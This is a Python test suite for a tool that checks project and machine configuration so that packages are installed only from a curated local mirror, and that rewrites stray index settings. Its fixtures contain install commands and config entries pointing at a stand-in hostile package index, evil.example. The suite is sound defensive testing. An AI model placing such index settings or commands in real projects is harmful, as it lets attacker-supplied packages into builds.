"""``noegress check`` as a person calls it."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

MIRROR = "http://127.0.0.1:3141/root/curated/+simple/"
SHUT = {"PIP_INDEX_URL": MIRROR, "UV_DEFAULT_INDEX": MIRROR, "PIP_CONFIG_FILE": os.devnull, "UV_NO_CONFIG": "1"}


def check(project: Path, *arguments: str, **environ: str) -> "subprocess.CompletedProcess[str]":
    command = [sys.executable, "-m", "noegress", "check", *arguments]
    home = {"HOME": str(project), "PATH": os.defpath}
    return subprocess.run(
        command, cwd=project, env={**home, **SHUT, **environ}, capture_output=True, text=True, timeout=60, check=False
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "noegress.toml").write_text(f'format = 1\n[index]\nurl = "{MIRROR}"\n')
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "example"\nversion = "1"\n')
    return tmp_path


def test_a_clean_project_on_a_clean_machine_exits_0(project: Path) -> None:
    done = check(project, "--offline")
    assert (done.returncode, done.stderr) == (0, "")
    assert "nothing besides" in done.stdout


def test_a_violation_exits_1_with_place_effect_and_fix(project: Path) -> None:
    done = check(project, "--offline", PIP_EXTRA_INDEX_URL="https://evil.example/simple")
    assert done.returncode == 1
    assert "environment: PIP_EXTRA_INDEX_URL=https://evil.example/simple" in done.stdout
    assert "fix: unset PIP_EXTRA_INDEX_URL" in done.stdout


def test_the_scope_leaves_the_machine_out(project: Path) -> None:
    done = check(project, "--offline", "--scope", "project", PIP_EXTRA_INDEX_URL="https://evil.example/simple")
    assert done.returncode == 0


def test_a_directory_is_checked_with_the_policy_that_is_named(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    other = tmp_path_factory.mktemp("other")
    (other / "uv.toml").write_text('index-url = "https://evil.example/simple"\n')
    done = check(project, "--offline", "--policy", "noegress.toml", "--format", "json", str(other))
    document = json.loads(done.stdout)
    assert done.returncode == 1
    assert document["format"] == 1
    assert document["verdict"] == "refused"
    assert [(v["scope"], v["file"], v["line"]) for v in document["violations"]] == [("project", "uv.toml", 1)]


def test_no_policy_exits_2(tmp_path: Path) -> None:
    done = check(tmp_path)
    assert done.returncode == 2
    assert "no policy found" in done.stderr


def test_a_policy_without_a_mirror_exits_2(project: Path) -> None:
    (project / "noegress.toml").write_text("format = 1\n")
    done = check(project)
    assert done.returncode == 2
    assert "no [index] url" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_directory_that_is_none_exits_2(project: Path) -> None:
    done = check(project, "nowhere")
    assert (done.returncode, "Traceback" in done.stderr) == (2, False)


def test_mechanical_fixes_are_shown_written_and_checked(project: Path) -> None:
    (project / "uv.toml").write_bytes(b'index-url = "https://evil.example/simple"\r\n')
    (project / "requirements.txt").write_text(
        "six\n--extra-index-url https://evil.example/simple\n-i https://e.example/\n"
    )
    (project / "pylock.toml").write_text("lock-version = '9'\n")
    done = check(project, "--offline", "--fix", PIP_FIND_LINKS="/opt/wheels")
    assert (project / "uv.toml").read_bytes() == f'index-url = "{MIRROR}"\r\n'.encode()
    assert (project / "requirements.txt").read_text() == f"six\n-i {MIRROR}\n"
    assert "---extra-index-url https://evil.example/simple" in done.stderr
    assert f"export UV_DEFAULT_INDEX='{MIRROR}'" in (project / "noegress.env").read_text()
    assert done.returncode == 1, "the lock of an unknown version and the variable are left to a person"
    assert "pylock.toml:1" in done.stdout
    assert "evil.example" not in done.stdout


def test_after_the_fixes_a_second_run_is_clean(project: Path) -> None:
    evil = "https://evil.example/simple/"
    shapes = {
        "pip.conf": f"[global]\nindex-url = {MIRROR}\nextra-index-url =\n  {MIRROR}\n  {evil}\n",
        "Dockerfile": f"FROM x\nARG IDX={evil}\n# {evil}\nRUN pip install -i $IDX x\n",
        ".github/workflows/x.yml": f"env: {{PIP_INDEX_URL: '{evil}'}}\nrun: pip install -f {evil} x\n",
        "pixi.toml": f'[pypi-options]\nindex-url = "{evil}"\n',
    }
    for name, text in shapes.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    first, second = (check(project, "--offline", "--fix") for _ in range(2))
    assert (first.returncode, second.returncode) == (0, 0), first.stdout
    assert first.stderr.count("\n+++ ") + first.stderr.startswith("+++ ") == len(shapes)
    assert second.stderr == ""
    assert f"# {evil}" in (project / "Dockerfile").read_text()


def test_a_fix_takes_the_whole_of_an_option_and_of_an_address(project: Path) -> None:
    files = {
        "requirements.txt": (
            "six\n--extra-index-url \\\n    https://evil.example/simple/\n-f https://evil.example/x  # why\n",
            "six\n",
        ),
        "requirements-two.txt": (
            f"-f https://evil.example/simple -i {MIRROR}\n",
            f"-f {MIRROR} -i {MIRROR}\n",
        ),
        "ci.sh": (
            "pip install -i https://evil.example/a --extra-index-url https://evil.example/a/b six\n",
            f"pip install -i {MIRROR} --extra-index-url {MIRROR} six\n",
        ),
        "Pipfile": (
            '[[source]]\nname = "a"\nurl = "https://${U}:${P}@evil.example/simple"\n',
            f'[[source]]\nname = "a"\nurl = "{MIRROR}"\n',
        ),
    }
    for name, (text, _) in files.items():
        (project / name).write_text(text)
    done = check(project, "--offline", "--fix")
    assert {name: (project / name).read_text() for name in files} == {name: text for name, (_, text) in files.items()}
    assert done.returncode == 0, done.stdout


def test_nothing_is_written_where_nothing_can_be_mended(project: Path) -> None:
    before = sorted(project.iterdir())
    assert check(project, "--offline", "--fix").returncode == 0
    assert sorted(project.iterdir()) == before


@pytest.mark.parametrize("form", ["json", "sarif", "gitlab"])
def test_machine_readable_forms_are_json(project: Path, form: str) -> None:
    done = check(project, "--offline", "--format", form, UV_INDEX="https://evil.example/simple")
    assert done.returncode == 1
    json.loads(done.stdout)


def without_tuf(project: Path, *arguments: str) -> "subprocess.CompletedProcess[str]":
    code = (
        f"import sys; sys.modules['tuf'] = None\nfrom noegress.cli import main; sys.exit(main({['check', *arguments]}))"
    )
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=project,
        env={"PATH": os.defpath, **SHUT},
        capture_output=True,
        text=True,
        check=False,
    )


def test_the_extra_is_asked_for_only_where_the_policy_names_a_catalogue(project: Path) -> None:
    (project / "requirements.txt").write_text("six\n")
    done = without_tuf(project, "--scope", "project")
    assert done.returncode == 3
    assert "the policy names no catalogue" in done.stdout
    with (project / "noegress.toml").open("a") as policy:
        policy.write(f'[catalogue]\nurl = "http://127.0.0.1:1/"\nroot-sha256 = "{"0" * 64}"\n')
    done = without_tuf(project, "--scope", "project")
    assert done.returncode == 2
    assert "pip install 'noegress[catalogue]'" in done.stderr
    assert without_tuf(project, "--scope", "project", "--offline").returncode == 0


def test_what_needs_a_catalogue_is_undecided_without_one(project: Path) -> None:
    (project / "requirements.txt").write_text("six\n")
    done = check(project)
    assert done.returncode == 3
    assert "not judged" in done.stdout
    assert check(project, "--offline").returncode == 0


def test_a_channel_of_conda_is_no_index_that_the_mirror_could_replace(project: Path) -> None:
    texts = {
        "environment.yml": "channels:\n  - conda-forge\ndependencies:\n  - python\n",
        "pixi.toml": '[workspace]\nchannels = ["https://channel.example/main"]\n',
        "ci.sh": "conda install -c https://channel.example/main numpy\n",
    }
    for name, text in texts.items():
        (project / name).write_text(text)
    done = check(project, "--offline", "--fix")
    assert done.returncode == 1
    assert done.stdout.count("fix: leave the channel out") == len(texts)
    assert {name: (project / name).read_text() for name in texts} == texts


def test_a_lock_is_left_to_the_tool_that_writes_it(project: Path) -> None:
    texts = {
        "pixi.lock": "version: 6\nenvironments:\n  default:\n    indexes:\n    - https://evil.example/simple\n",
        "Pipfile.lock": '{"_meta": {"sources": [{"name": "x", "url": "https://evil.example/s"}]}, "default": {}}\n',
        "conda-lock.yml": "version: 1\npackage:\n- name: six\n  manager: pip\n  url: https://evil.example/six.whl\n",
    }
    for name, text in texts.items():
        (project / name).write_text(text)
    done = check(project, "--offline", "--fix")
    assert done.returncode == 1
    assert all(f"{name}:" in done.stdout for name in texts)
    assert {name: (project / name).read_text() for name in texts} == texts


def test_fixes_keep_comments_other_settings_and_the_mode_of_a_file(project: Path) -> None:
    evil = "https://evil.example/simple/"
    texts = {
        "pip.conf": "# ours\n[global]\ntimeout = 60  \nindex-url = {}\n; {evil} was here\n[install]\nno-deps = true\n",
        "uv.toml": '# ours\nlink-mode = "copy"\n\n[[index]]\nurl = "{}" # once {evil}\ndefault = true\n',
        "tools/sync.sh": "#!/bin/sh\n# not {evil}\nset -e\nuv pip install --index-url {} -r requirements.txt  # six\n",
    }
    for name, text in texts.items():
        (project / name).parent.mkdir(exist_ok=True)
        (project / name).write_text(text.format(evil, evil="EVIL"))
    (project / "tools/sync.sh").chmod(0o750)
    done = check(project, "--offline", "--fix")
    assert done.returncode == 0, done.stdout
    for name, text in texts.items():
        assert (project / name).read_text() == text.format(MIRROR, evil="EVIL")
    assert (project / "tools/sync.sh").stat().st_mode & 0o777 == 0o750
    assert [path for path in project.rglob(".*") if path.is_file()] == [], "no file that was half written is left"


def test_fixes_only_touch_what_they_show(project: Path) -> None:
    (project / "uv.toml").write_text('index-url = "https://evil.example/simple"\n')
    (project / "pdm.lock").write_text("not a lock\n")
    before = {path: path.read_bytes() for path in project.iterdir()}
    done = check(project, "--offline", "--fix")
    changed = {path.name for path in project.iterdir() if before.get(path) != path.read_bytes()}
    assert changed == {"uv.toml"}
    assert [line for line in done.stderr.splitlines() if line.startswith("+++")] == ["+++ uv.toml"]
    assert done.returncode == 1, "the lock that cannot be read is left to a person"
